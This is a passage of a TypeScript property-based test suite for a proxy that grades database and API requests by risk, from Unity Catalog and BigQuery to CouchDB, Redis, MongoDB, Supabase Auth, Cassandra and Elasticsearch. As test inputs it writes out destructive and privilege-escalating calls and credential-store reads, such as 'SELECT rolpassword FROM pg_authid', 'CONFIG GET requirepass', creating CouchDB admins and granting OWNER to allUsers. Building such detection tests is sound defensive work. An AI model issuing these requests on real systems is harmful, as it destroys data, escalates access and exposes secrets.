    const up = (s: string): string => (upper ? s.toUpperCase() : s);
    return [
      { method: 'DELETE', url: `${host}/api/2.1/unity-catalog/catalogs/${a}?force=true` },
      { method: 'DELETE', url: `${host}/api/2.1/unity-catalog/schemas/${a}.${b}` },
      { method: 'DELETE', url: `${host}/api/v2/databases/${a}/schemas/${b}` },
      { method: 'PATCH', url: `${host}/api/2.1/unity-catalog/permissions/table/${a}.${b}.${c}`, body: { changes: [{ principal: 'account users', add: ['ALL_PRIVILEGES'] }] } },
      { method: 'PATCH', url: `${host}/api/2.0/permissions/sql/warehouses/${a}`, body: { access_control_list: [{ group_name: 'users', permission_level: 'CAN_MANAGE' }] } },
      { method: 'POST', url: `${host}/api/v2/roles/${a}/grants`, body: { securable_type: 'TABLE', securable: { database: b, schema: 'public', name: c }, privileges: ['OWNERSHIP'] } },
      { method: 'POST', url: `${host}/api/v2/users/${a}/grants`, body: { securable_type: 'ROLE', securable: { name: 'ACCOUNTADMIN' } } },
      { method: 'POST', url: `${host}/api/v2/database-roles/${a}/grants:revoke`, body: { privileges: ['SELECT'] } },
      { method: 'POST', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}:setIamPolicy`, body: { policy: { bindings: [{ role: 'roles/bigquery.dataOwner', members: ['allUsers'] }] } } },
      { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/${a}`, body: { access: [{ role: 'OWNER', specialGroup: 'allAuthenticatedUsers' }] } },
      { method: 'PATCH', url: `${host}/api/2.1/unity-catalog/tables/${a}.${b}.${c}`, body: { owner: 'eve' } },
      { method: 'POST', url: `${host}/api/v2/databases/${a}/schemas/${b}/tables?createMode=${up('orReplace')}`, body: { name: c, columns: [{ name: 'id', datatype: 'int' }] } },
      { method: 'POST', url: `${host}/api/v2/databases/${a}?createMode=orReplace` },
      { method: 'POST', url: `${host}/api/v2/databases/${a}/schemas/${b}/tables/${c}:swap-with?targetName=empty` },
      { method: 'PUT', url: `${host}/api/v2/databases/${a}/schemas/${b}/tables/${c}`, body: { name: c, columns: [{ name: 'id', datatype: 'int' }] } },
      { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}`, body: { expirationTime: '1' } },
      { method: 'PUT', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}`, body: { tableReference: { tableId: b }, expirationTime: String(Date.UTC(2026, 0, 6)) } },
      { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}`, body: { timePartitioning: { type: 'DAY', expirationMs: '1' } } },
      { method: 'DELETE', url: `${host}/v1/organizations/${a}/databases/${b}/branches/${up('main')}` },
      { method: 'DELETE', url: `${host}/api/atlas/v2/groups/${a}/clusters/${b}` },
      { method: 'POST', url: `${host}/v2/databases/${a}/terminate` },
      { method: 'DELETE', url: `${host}/v2/databases/${a}/keyspaces/${b}` },
    ][k]!;
  });
  const send = (c: Call): Promise<Decided> => decide({ method: c.method, url: c.url, headers: c.body === undefined ? [] : [['Content-Type', 'application/json']], body: c.body === undefined ? '' : JSON.stringify(c.body) });
  await fc.assert(fc.asyncProperty(calls, async (c) => {
    const { decision } = await send(c);
    t.equal(decision.approval?.risk, 'critical', `${c.method} ${c.url} ${JSON.stringify(c.body ?? '')}`);
  }), { numRuns: 16, ...seed });
  // BigQuery's multipart job upload: the job's JSON is the first part of a multipart/related body.
  const upload = (job: unknown, crlf: boolean): Promise<Decided> => {
    const nl = crlf ? '\r\n' : '\n';
    const body = `--XB${nl}Content-Type: application/json; charset=UTF-8${nl}${nl}${JSON.stringify(job)}${nl}--XB${nl}Content-Type: application/octet-stream${nl}${nl}a,b${nl}--XB--${nl}`;
    return decide({ url: `${host}/upload/bigquery/v2/projects/p/jobs?uploadType=multipart`, headers: [['Content-Type', 'multipart/related; boundary=XB']], body });
  };
  const load = (disposition: string): unknown => ({ configuration: { load: { destinationTable: { projectId: 'p', datasetId: 'ds', tableId: 'users' }, writeDisposition: disposition, sourceFormat: 'CSV' } } });
  for (const crlf of [true, false]) t.equal((await upload(load('WRITE_TRUNCATE'), crlf)).decision.approval?.risk, 'critical', `a multipart load job with WRITE_TRUNCATE (${crlf ? 'CRLF' : 'LF'})`);
  t.notOk((await upload(load('WRITE_APPEND'), true)).description.sql?.destructive, 'control: a multipart load job that appends');
  t.notOk((await upload({ name: 'report.csv', parents: ['x'] }, true)).description.sql, 'control: another resource\'s metadata part');
  const controls: Array<[string | undefined, Call]> = [
    ['medium', { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/ds/tables/users`, body: { description: 'users' } }],
    ['medium', { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/ds`, body: { description: 'x' } }],
    ['medium', { method: 'POST', url: `${host}/api/v2/databases/db/schemas/s/tables?createMode=ifNotExists`, body: { name: 't', columns: [] } }],
    ['medium', { method: 'POST', url: `${host}/api/v2/databases/db/schemas/s/tables`, body: { name: 't', columns: [] } }],
    ['medium', { method: 'PATCH', url: `${host}/api/2.1/unity-catalog/tables/main.default.users`, body: { comment: 'x' } }],
    ['medium', { method: 'DELETE', url: `${host}/api/items/5` }],
    ['medium', { method: 'POST', url: `${host}/api/2.0/sql/statements`, body: { statement: 'SELECT 1', warehouse_id: 'w' } }],
    [undefined, { method: 'GET', url: `${host}/api/2.1/unity-catalog/permissions/table/main.default.users` }],
    [undefined, { method: 'GET', url: `${host}/api/v2/roles/analyst/grants` }],
    ['medium', { method: 'POST', url: `${host}/v1/organizations/o/databases/d/branches`, body: { name: 'dev', parent_branch: 'main' } }],
    ['medium', { method: 'DELETE', url: `${host}/v1/organizations/o/databases/d/branches/dev/passwords/p1` }],
  ];
  for (const [risk, c] of controls) t.equal((await send(c)).decision.approval?.risk, risk, `control: ${c.method} ${c.url}`);
});

t.test('twenty-seventh pass: CouchDB\'s calls that drop, open up, configure or delete are read as their twins', async (t) => {
  // Left open by the twenty-sixth pass (CouchDB's API was not read): each a medium write on an
  // allowed host. Documented request shapes, replayed.
  const couch = `http://${SQL_HOST}:5984`;
  type Call = { method: string; url: string; body?: unknown };
  const db = fc.stringMatching(/^[a-z][a-z0-9_$()+-]{0,10}$/);
  const calls = fc.record({ d: db, k: fc.integer({ min: 0, max: 6 }), tls: fc.boolean() }).map(({ d, k, tls }): Call => {
    const base = tls ? `https://${SQL_HOST}:6984` : couch;
    return [
      { method: 'DELETE', url: `${base}/${encodeURIComponent(d)}` },
      { method: 'PUT', url: `${base}/${d}/_security`, body: { admins: { names: [], roles: [] }, members: { names: [], roles: [] } } },
      { method: 'PUT', url: `${base}/_node/_local/_config/admins/eve`, body: 'secret' },
      { method: 'PUT', url: `${base}/_node/nonode@nohost/_config/chttpd/require_valid_user`, body: 'false' },
      { method: 'DELETE', url: `${base}/_config/admins/admin` },
      { method: 'PUT', url: `${base}/_users/org.couchdb.user:eve`, body: { name: 'eve', password: 'x', roles: ['admins'], type: 'user' } },
      { method: 'POST', url: `${base}/_users`, body: { _id: 'org.couchdb.user:eve', name: 'eve', password: 'x', roles: [], type: 'user' } },
    ][k]!;
  });
  const send = (c: Call): Promise<Decided> => decide({ method: c.method, url: c.url, headers: c.body === undefined ? [] : [['Content-Type', 'application/json']], body: c.body === undefined ? '' : JSON.stringify(c.body) });
  await fc.assert(fc.asyncProperty(calls, async (c) => {
    t.equal((await send(c)).decision.approval?.risk, 'critical', `${c.method} ${c.url}`);
  }), { numRuns: 16, ...seed });
  // _purge and _bulk_docs deletes are read as the DELETE of the documents they name: narrow, and
  // a grant for one names its ids.
  const purge = await send({ method: 'POST', url: `${couch}/users/_purge`, body: { a: ['1-x'], b: ['2-y'] } });
  t.match(purge.description.sql?.statements?.[0]?.text, /DELETE FROM "users" WHERE _id IN \('a', 'b'\)/);
  const bulk = await send({ method: 'POST', url: `${couch}/users/_bulk_docs`, body: { docs: [{ _id: 'a', _rev: '1-x', _deleted: true }, { _id: 'c', v: 1 }] } });
  t.match(bulk.description.sql?.statements?.[0]?.text, /DELETE FROM "users" WHERE _id IN \('a'\)/);
  t.equal(bulk.decision.approval?.risk, 'medium');
  t.equal((await send({ method: 'POST', url: `${couch}/users/_bulk_docs`, body: { docs: [{ _deleted: true }] } })).decision.approval?.risk, 'critical', 'a bulk delete naming no document');
  // Controls: a document written or deleted by id, a database created, compaction, reads.
  const controls: Array<[string | undefined, Call]> = [
    ['medium', { method: 'PUT', url: `${couch}/users/doc1`, body: { a: 1 } }],
    ['medium', { method: 'DELETE', url: `${couch}/users/doc1?rev=1-x` }],
    ['medium', { method: 'PUT', url: `${couch}/newdb` }],
    ['medium', { method: 'POST', url: `${couch}/users/_compact` }],
    ['medium', { method: 'POST', url: `${couch}/users/_bulk_docs`, body: { docs: [{ _id: 'a', v: 1 }] } }],
    ['medium', { method: 'DELETE', url: `http://${SQL_HOST}/users` }],
    [undefined, { method: 'GET', url: `${couch}/users/_security` }],
    [undefined, { method: 'GET', url: `${couch}/_node/_local/_config` }],
  ];
  for (const [risk, c] of controls) t.equal((await send(c)).decision.approval?.risk, risk, `control: ${c.method} ${c.url}`);
});

t.test('twenty-seventh pass: Gremlin over a WebSocket is read as Gremlin, a script or GraphSON bytecode, whatever its words', async (t) => {
  // Left open by the twenty-sixth pass: Gremlin Server's WebSocket request `{op, args: {gremlin}}`
  // went on undecided (a script's `drop` was judged as a POST whose reader took a top-level
  // `gremlin` only; `property(…)` and bytecode named no SQL word). Each message as the tunnel
  // reads it, judged as the proxy judges a carried statement (no SQL found: relayed).
  const url = `http://${SQL_HOST}:8182/gremlin`;
  const bc = (steps: unknown[]): unknown => ({ '@type': 'g:Bytecode', '@value': { step: steps } });
  const int = (n: number): unknown => ({ '@type': 'g:Int64', '@value': n });
  const framed = (mime: string, o: unknown): Buffer => Buffer.concat([Buffer.from([mime.length]), Buffer.from(mime), Buffer.from(JSON.stringify(o))]);
  const judged = async (data: Buffer, binary: boolean): Promise<string> => {
    const r = new JsonMessagesReader().read(data, binary);
    if (r.refused) return 'refused';
    let worst = 'relayed';
    for (const s of r.statements) {
      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: s.raw ?? JSON.stringify(s.body) });
      if (description.sql) worst = decision.approval?.risk ?? decision.action;
    }
    return worst;
  };
  const every = [
    { script: 'g.V().drop()', steps: [['V'], ['drop']] },
    { script: "g.V().hasLabel('User').drop().iterate()", steps: [['V'], ['hasLabel', 'User'], ['drop']] },
    { script: "g.V().property('role', 'admin')", steps: [['V'], ['property', 'role', 'admin']] },
    { script: "g.E().has('since').drop()", steps: [['E'], ['has', 'since'], ['drop']] },
    { script: "g.V().has('age', P.gte(-1000000000000)).property('role', 'admin')", steps: [['V'], ['has', 'age', { '@type': 'g:P', '@value': { predicate: 'gte', value: { '@type': 'g:Int32', '@value': -2147483648 } } }], ['property', 'role', 'admin']] },
    { script: 'g.V().sideEffect{ it.get().remove() }', steps: [['V'], ['sideEffect', { '@type': 'g:Lambda', '@value': { script: 'it.get().remove()', language: 'gremlin-groovy', arguments: 1 } }]] },
  ];
  const shape = fc.record({ k: fc.integer({ min: 0, max: every.length - 1 }), bytecode: fc.boolean(), wire: fc.constantFrom('text', 'v3', 'v2', 'json'), id: fc.uuid() });
  await fc.assert(fc.asyncProperty(shape, async ({ k, bytecode, wire, id }) => {
    const e = every[k]!;
    const msg = bytecode ? { requestId: { '@type': 'g:UUID', '@value': id }, op: 'bytecode', processor: 'traversal', args: { gremlin: bc(e.steps), aliases: { g: 'g' } } }
      : { requestId: id, op: 'eval', processor: '', args: { gremlin: e.script, language: 'gremlin-groovy' } };
    const data = wire === 'text' ? Buffer.from(JSON.stringify(msg)) : framed(wire === 'v3' ? 'application/vnd.gremlin-v3.0+json' : wire === 'v2' ? 'application/vnd.gremlin-v2.0+json' : 'application/json', msg);
    t.equal(await judged(data, wire !== 'text'), 'critical', `${wire} ${bytecode ? JSON.stringify(e.steps) : e.script}`);
  }), { numRuns: 20, ...seed });
  // GraphBinary is not read: a step that writes refused, a read relayed.
  const gb = (word: string): Buffer => Buffer.concat([Buffer.from([32]), Buffer.from('application/vnd.graphbinary-v1.0'), Buffer.from([0x81, 0, 0, 0, word.length]), Buffer.from(word)]);
  t.equal(await judged(gb('drop'), true), 'refused');
  t.equal(await judged(gb('V'), true), 'relayed');
  // Controls: a vertex by id dropped, a property of one set, reads, a session's authentication.
  t.equal(await judged(framed('application/vnd.gremlin-v3.0+json', { requestId: 'r', op: 'bytecode', processor: 'traversal', args: { gremlin: bc([['V', int(5)], ['drop']]) } }), true), 'medium');
  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'eval', args: { gremlin: "g.V(7).property('name', 'x')" } })), false), 'medium');
  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'bytecode', processor: 'traversal', args: { gremlin: bc([['V'], ['hasLabel', 'User'], ['valueMap']]) } })), false), 'relayed');
  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'eval', args: { gremlin: "g.V().has('name', 'drop table tennis').count()" } })), false), 'relayed');
  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'authentication', args: { sasl: 'AHVzZXIAcGFzcw==' } })), false), 'relayed');
});

t.test('twenty-seventh pass: a WHERE that names only another table\'s columns touches every row or none', async (t) => {
  // `DELETE FROM users USING orders o WHERE o.id = 1`, an UPDATE … FROM, an uncorrelated EXISTS,
  // IN or count: each a narrow medium write, each deleting or updating every row of a real
  // PostgreSQL 15 (the twenty-second pass's PostgreSQL test) when order 1 exists.
  await fc.assert(fc.asyncProperty(fc.constantFrom(...otherTableOnly), fc.constantFrom(SUPABASE, NEON, GENERIC, D1), fc.boolean(), async (sql, url, lower) => {
    const text = lower ? sql.replace(/\b(DELETE|FROM|USING|WHERE|UPDATE|SET|EXISTS|SELECT|IN|AND)\b/g, (w) => w.toLowerCase()) : sql;
    // SQLite has no DELETE … USING or UPDATE … FROM of this shape: D1 takes the subquery forms.
    fc.pre(url !== D1 || !/USING|FROM orders o WHERE o\.id/.test(sql));
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === D1 ? { sql: text } : { query: text }) });
    t.equal(decision.approval?.risk, 'critical', `${url} ${text}`);
  }), { numRuns: 20, ...seed });
  for (const sql of otherTableControls) {
    for (const url of [SUPABASE, GENERIC]) {
      const { description } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
      t.notOk(description.sql?.destructive, `control: ${url} ${sql}`);
    }
  }
});

t.test('twenty-seventh pass: reading the database\'s own credential stores is reading secrets, in each dialect', async (t) => {
  // Each was an allowed read (Supabase's and Neon's SELECTs, a GET's `?sql=`, ClickHouse's GET):
  // role password hashes, user mappings' passwords to other servers, Vault's decrypted secrets, a
  // JWT secret kept as a setting, MySQL's accounts, ClickHouse's named collections, DuckDB's secrets.
  const reads = fc.record({
    sql: fc.constantFrom('SELECT name, decrypted_secret FROM vault.decrypted_secrets', 'SELECT rolname, rolpassword FROM pg_authid', 'select * from pg_catalog.pg_shadow',
      'SELECT srvname, umoptions FROM pg_user_mappings', "SELECT current_setting('app.settings.jwt_secret')", 'SHOW app.settings.jwt_secret',
      "SELECT id FROM users WHERE EXISTS (SELECT 1 FROM vault.secrets)", 'SELECT * FROM information_schema.user_mapping_options'),
    url: fc.constantFrom(SUPABASE, NEON, GENERIC, 'get'),
  });
  await fc.assert(fc.asyncProperty(reads, async ({ sql, url }) => {
    const r = url === 'get' ? { method: 'GET', url: `${GENERIC}?sql=${encodeURIComponent(sql)}` } : { url, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ query: sql }) };
    t.equal((await decide(r)).decision.approval?.risk, 'critical', `${url} ${sql}`);
  }), { numRuns: 20, ...seed });
  for (const sql of ['SELECT user, authentication_string FROM mysql.user', 'SELECT * FROM duckdb_secrets()', "SELECT current_setting('motherduck_token')", 'SELECT * FROM system.named_collections']) {
    t.equal((await decide({ method: 'GET', url: `http://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}` })).decision.approval?.risk, 'critical', `unknown dialect: ${sql}`);
  }
  for (const sql of ['SELECT * FROM pg_roles', "SELECT current_setting('search_path')", 'SELECT * FROM secrets', 'SHOW search_path', 'SELECT id FROM users']) {
    t.equal((await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) })).decision.action, 'allow', `control: ${sql}`);
  }
});

t.test('twenty-eighth pass: reading a credential store is reading secrets in Redis, MongoDB and Supabase Auth too', async (t) => {
  // Each was a read: Webdis's `GET /CONFIG/GET/requirepass` (the password every Redis client
  // authenticates with, in clear; `masterauth` and the TLS keys' passphrases too; ACL LIST and
  // GETUSER every user's hash) allowed, the same POSTed to a REST bridge a plain medium write;
  // MongoDB's `usersInfo {showCredentials}` and a `find` of `admin.system.users` went on through a
  // tunnel; Supabase Auth's refresh tokens, TOTP secrets, providers' tokens, and `auth.users`'
  // password hashes and recovery tokens (`SELECT *`) allowed reads on Supabase's SQL endpoint.
  // A CONFIG GET pattern is a Redis glob, matched as redis-server 7.0 matches it (4,000 generated
  // patterns compared with a real server's answers: none it answers with a secret read otherwise).
  const secretPatterns = fc.constantFrom('requirepass', 'REQUIREPASS', 're?uirepass', '[r]equirepass', '*', 'r*', '*AUTH', 'r[^x]quirepass', 'tls-*-pass', '*[p-q]ass', 'master\\auth', 'r[a-z]quire*');
  const redisShapes = fc.constantFrom(
    (a: string[]) => ({ method: 'GET', url: `http://${SQL_HOST}:7379/${a.map(encodeURIComponent).join('/')}`, body: '' }),
    (a: string[]) => ({ method: 'GET', url: `http://${SQL_HOST}/${a.map(encodeURIComponent).join('/')}`, body: '' }),
    (a: string[]) => ({ method: 'POST', url: `https://${SQL_HOST}/`, body: JSON.stringify(a) }),
    (a: string[]) => ({ method: 'POST', url: `https://${SQL_HOST}/pipeline`, body: JSON.stringify([['GET', 'k'], a]) }),
  );
  await fc.assert(fc.asyncProperty(secretPatterns, fc.constantFrom('CONFIG', 'config'), fc.constantFrom('GET', 'get'), redisShapes, async (p, c, g, shape) => {
    const r = shape([c, g, p]);
    const { decision } = await decide({ ...r, headers: r.body ? [['Content-Type', 'application/json']] : [] });
    if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url} ${r.body}: ${decision.action} ${decision.rule}`);
  }), { numRuns: 16, ...seed });
  for (const args of [['ACL', 'LIST'], ['ACL', 'GETUSER', 'default'], ['CONFIG', 'GET', 'maxmemory', 'masterauth']]) {
    t.equal((await decide({ method: 'GET', url: `http://${SQL_HOST}:7379/${args.join('/')}` })).decision.approval?.risk, 'critical', `Webdis ${args.join(' ')}`);
  }
  // Redis through a tunnel: the command's twin is the store's read.
  t.equal(redisStatement(['CONFIG', 'GET', '*'])?.body.sql, 'SELECT rolpassword FROM pg_authid', 'tunnel: CONFIG GET *');
  for (const [p, name, hit] of [['*', 'requirepass', true], ['[a-]equirepass', 'requirepass', true], ['max*', 'requirepass', false], ['\\*', 'requirepass', false], ['tls-[^c]*-pass', 'tls-key-file-pass', true], ['tls-[^c]*-pass', 'tls-client-key-file-pass', false]] as const) {
    t.equal(redisGlobMatches(p, name), hit, `glob ${p} ~ ${name}`);
  }
  // MongoDB, as its wire protocol and Prisma's runCommandRaw carry it.
  for (const cmd of [{ usersInfo: 1, showCredentials: true }, { usersInfo: { user: 'root', db: 'admin' }, showCredentials: 1 }, { find: 'system.users', filter: {} }, { count: 'system.users' },
    { aggregate: 'x', pipeline: [{ $lookup: { from: 'system.users', as: 'u', pipeline: [] } }], cursor: {} }, { aggregate: 1, pipeline: [{ $documents: [{}] }, { $unionWith: 'system.users' }], cursor: {} },
    { explain: { find: 'system.users' } }, { aggregate: 'x', pipeline: [{ $facet: { a: [{ $unionWith: { coll: 'system.keys' } }] } }], cursor: {} }]) {
    const twin = mongoCommandSql({ ...cmd, $db: 'admin' });
    t.equal(twin, 'SELECT rolpassword FROM pg_authid', `mongo ${JSON.stringify(cmd)}`);
    const prisma = await decide({ url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ modelName: 'User', action: 'runCommandRaw', query: { arguments: { command: cmd } } }) });
    t.equal(prisma.decision.approval?.risk, 'critical', `Prisma runCommandRaw ${JSON.stringify(cmd)}`);
  }
  // A write into the accounts or roles themselves is a GRANT (a user made with chosen credentials and roles, `root` added).
  for (const cmd of [{ insert: 'system.users', documents: [{ _id: 'admin.eve', user: 'eve', db: 'admin', roles: [{ role: 'root', db: 'admin' }] }] },
    { update: 'system.roles', updates: [{ q: { role: 'app' }, u: { $push: { privileges: { resource: { anyResource: true }, actions: ['anyAction'] } } } }] }]) {
    t.equal(mongoCommandSql({ ...cmd, $db: 'admin' }), 'GRANT ALL ON SCHEMA mongo TO mongo_user', `mongo ${Object.keys(cmd)[0]} into ${Object.values(cmd)[0]}`);
  }
  t.equal(mongoCommandSql({ insert: 'users', documents: [{ a: 1 }], $db: 'app' }), 'INSERT INTO users (mongo_data) VALUES (1)', 'control: an insert elsewhere');
  const tunnelTwin = await decide({ url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: mongoCommandSql({ usersInfo: 1, showCredentials: true, $db: 'admin' }) }) });
  t.equal(tunnelTwin.decision.approval?.risk, 'critical', 'the twin a tunnel carries is held critical');
  // Supabase Auth, on Supabase's SQL endpoint and a GET's `?sql=`.
  const authReads = ['SELECT * FROM auth.users', 'TABLE auth.users', 'SELECT email, encrypted_password FROM auth.users', 'SELECT recovery_token FROM auth.users WHERE email = \'a@b.example\'',
    'SELECT to_jsonb(u) FROM auth.users u', 'SELECT u.* FROM public.profiles p JOIN auth.users u ON u.id = p.id', 'SELECT json_agg(users) FROM auth.users', 'COPY auth.users TO STDOUT',
    'SELECT row_to_json(x) FROM (SELECT * FROM auth.users) x', 'SELECT token FROM auth.refresh_tokens', 'SELECT secret FROM auth.mfa_factors', 'SELECT * FROM auth.one_time_tokens',
    'SELECT provider_access_token FROM auth.flow_state', 'SELECT subconninfo FROM pg_subscription'];
  for (const sql of authReads) {
    for (const r of [{ url: SUPABASE, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ query: sql }) }, { method: 'GET', url: `${GENERIC}?sql=${encodeURIComponent(sql)}` }]) {
      t.equal((await decide(r)).decision.approval?.risk, 'critical', `${r.url.slice(0, 40)} ${sql}`);
    }
  }
  // Controls: other settings, user names, other collections and a user's own fields stay reads.
  for (const args of [['CONFIG', 'GET', 'maxmemory'], ['CONFIG', 'GET', '*memory*'], ['ACL', 'USERS'], ['GET', 'requirepass']]) {
    t.equal((await decide({ method: 'GET', url: `http://${SQL_HOST}:7379/${args.map(encodeURIComponent).join('/')}` })).decision.action, 'allow', `control: Webdis ${args.join(' ')}`);
  }
  t.equal((await decide({ url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/json']], body: '["CONFIG","GET","dir"]' })).decision.approval?.risk, 'medium', 'control: bridge CONFIG GET dir');
  for (const cmd of [{ usersInfo: 1 }, { usersInfo: 1, showCredentials: false }, { find: 'users', filter: { note: 'system.users' } }, { aggregate: 'x', pipeline: [{ $lookup: { from: 'orders', as: 'o' } }], cursor: {} }]) {
    t.equal(mongoCommandSql({ ...cmd, $db: 'admin' }), undefined, `control: mongo ${JSON.stringify(cmd)}`);
  }
  for (const sql of ['SELECT id, email FROM auth.users', 'SELECT count(*) FROM auth.users', "select id, email from auth.users where created_at > now() - interval '1 day'", 'SELECT p.id, u.email FROM public.profiles p JOIN auth.users u ON u.id = p.id',
    'WITH x AS (SELECT id FROM auth.users) SELECT * FROM x', 'SELECT s.* FROM public.profiles s JOIN auth.users u ON u.id = s.id', 'COPY auth.users (id, email) TO STDOUT', 'SELECT password FROM public.users', 'SELECT * FROM users']) {
    t.equal((await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) })).decision.action, 'allow', `control: ${sql}`);
  }
});

t.test('twenty-eighth pass: Cassandra through Stargate and Astra (CQL over REST, the GraphQL schema API, the Data API) is read as its SQL twin', async (t) => {
  // Each was a plain medium POST on a host no module owns: a CQL text body to `/v2/cql` (`TRUNCATE`,
  // `DROP KEYSPACE`, a DELETE of every row inside a batch), `dropTable`/`dropKeyspace` mutations of
  // Stargate's GraphQL schema API (aliased, by variable, in a fragment), and the Data API's
  // `deleteMany`/`updateMany` of every document (no filter, `{}`, `$ne`), `deleteCollection`, `dropKeyspace`.
  const host = `https://${SQL_HOST}`;
  const text = (path: string, body: string) => ({ url: `${host}${path}`, headers: [['Content-Type', 'text/plain']] as Array<[string, string]>, body });
  const json = (path: string, o: unknown) => ({ url: `${host}${path}`, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify(o) });
  const cql = fc.constantFrom('TRUNCATE users', 'truncate table ks.users', 'DROP KEYSPACE ks', 'DROP KEYSPACE IF EXISTS ks', 'DROP TABLE ks.users', 'BEGIN BATCH DELETE FROM users WHERE id = 1; DELETE FROM users; APPLY BATCH;',
    'BEGIN UNLOGGED BATCH USING TIMESTAMP 5 UPDATE users SET role = 1 WHERE id = 1; UPDATE users SET role = 1 WHERE 1 = 1; APPLY BATCH', 'ALTER KEYSPACE ks WITH durable_writes = false');
  const shapes = fc.oneof(
    fc.tuple(fc.constantFrom('/v2/cql', '/api/rest/v2/cql?keyspaceQP=ks', '/api/rest/v2/cql'), cql).map(([p, s]) => text(p, s)),
    fc.constantFrom(
      json('/api/graphql-schema', { query: 'mutation { dropTable(keyspaceName: "ks", tableName: "users") }' }),
      json('/graphql-schema', { query: 'mutation D($k: String!) { x: dropKeyspace(name: $k) }', variables: { k: 'ks' } }),
      json('/api/graphql-schema', { query: 'mutation { ...F } fragment F on Mutation { dropTable(keyspaceName: "ks", tableName: "users") }' }),
      json('/api/json/v1/ks/users', { deleteMany: {} }),
      json('/api/json/v1/ks/users', { deleteMany: { filter: {} } }),
      json('/api/json/v1/ks/users', { deleteMany: { filter: { _id: { $ne: 'x' } } } }),
      json('/api/json/v1/ks/users', { updateMany: { filter: {}, update: { $set: { role: 'admin' } } } }),
      json('/api/json/v1/ks', { deleteCollection: { name: 'users' } }),
      json('/api/json/v1/ks', { dropTable: { name: 'users' } }),
      json('/api/json/v1', { dropKeyspace: { name: 'ks' } }),
      json('/api/json/v1', { dropNamespace: { name: 'ks' } }),
    ),
  );
  await fc.assert(fc.asyncProperty(shapes, async (r) => {
    const { decision } = await decide(r);
    if (decision.approval?.risk !== 'critical') throw new Error(`${r.url} ${r.body}: ${decision.action} ${decision.rule}`);
  }), { numRuns: 20, ...seed });
  // Controls: reads, one row's writes, creating, narrow filters stay medium.
  for (const r of [text('/v2/cql', 'SELECT * FROM users WHERE a = 1 ALLOW FILTERING'), text('/v2/cql', "INSERT INTO users (id, e) VALUES (1, 'a') USING TTL 3600"), text('/v2/cql', 'DELETE FROM users WHERE id = 1'),
    json('/api/graphql-schema', { query: '{ keyspaces { name } }' }), json('/api/graphql-schema', { query: 'mutation { createTable(keyspaceName: "ks", tableName: "t", partitionKeys: [{name: "id", type: {basic: INT}}]) }' }),
    json('/api/json/v1/ks/users', { deleteMany: { filter: { email: 'a@b.example' } } }), json('/api/json/v1/ks/users', { deleteOne: { filter: { _id: 1 } } }), json('/api/json/v1/ks/users', { find: { filter: {} } }),
    json('/api/json/v1/ks', { createCollection: { name: 'users' } })]) {
    t.equal((await decide(r)).decision.approval?.risk, 'medium', `control: ${r.url} ${r.body}`);
  }
});

t.test('twenty-eighth pass: an Elasticsearch query on a metadata field every document shares is every document', async (t) => {
  // `{term: {_index: "logs"}}` on `logs/_delete_by_query` (also `terms`, `match`, `prefix`,
  // `wildcard`, `?q=_index:logs`, a query string) chooses whole indices, and `_seq_no >= 0`,
  // `_version >= 1`, `_primary_term > 0` hold for every document: each was a narrow medium write.
  const es = `http://${SQL_HOST}:9200`;
  const indexQueries = fc.constantFrom<unknown>({ term: { _index: 'logs' } }, { term: { _index: { value: 'logs' } } }, { terms: { _index: ['logs', 'x'] } }, { match: { _index: 'logs' } },
    { prefix: { _index: 'lo' } }, { wildcard: { _index: 'l*' } }, { query_string: { query: '_index:logs' } }, { bool: { filter: [{ term: { _index: 'logs' } }] } },
    { bool: { must_not: [{ term: { _index: 'other' } }] } }, { range: { _seq_no: { gte: 0 } } }, { range: { _version: { gte: 1 } } }, { range: { _primary_term: { gt: 0 } } });
  await fc.assert(fc.asyncProperty(indexQueries, fc.constantFrom('_delete_by_query', '_update_by_query'), async (query, api) => {
    const { decision } = await decide({ url: `${es}/logs/${api}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query }) });
    if (decision.approval?.risk !== 'critical') throw new Error(`${api} ${JSON.stringify(query)}: ${decision.action} ${decision.rule}`);
  }), { numRuns: 20, ...seed });
  t.equal((await decide({ url: `${es}/logs/_delete_by_query?q=_index:logs` })).decision.approval?.risk, 'critical', '?q=_index:logs');
  for (const query of [{ range: { _seq_no: { gt: 1000 } } }, { term: { user: 'x' } }, { ids: { values: ['a'] } }]) {
    t.equal((await decide({ url: `${es}/logs/_delete_by_query`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query }) })).decision.approval?.risk, 'medium', `control: ${JSON.stringify(query)}`);
  }
});

t.test('twenty-eighth pass: a Trino or Presto role header is the SET ROLE it stands for', async (t) => {
  // Trino keeps a session's role on the client, which sends it with each statement: `SELECT …` under
  // `X-Trino-Role: system=ROLE{admin}` (or `hive=ALL`, Presto's `X-Presto-Role`) ran in that role
  // and was the SELECT alone (medium), while `SET ROLE admin` in the text is critical.
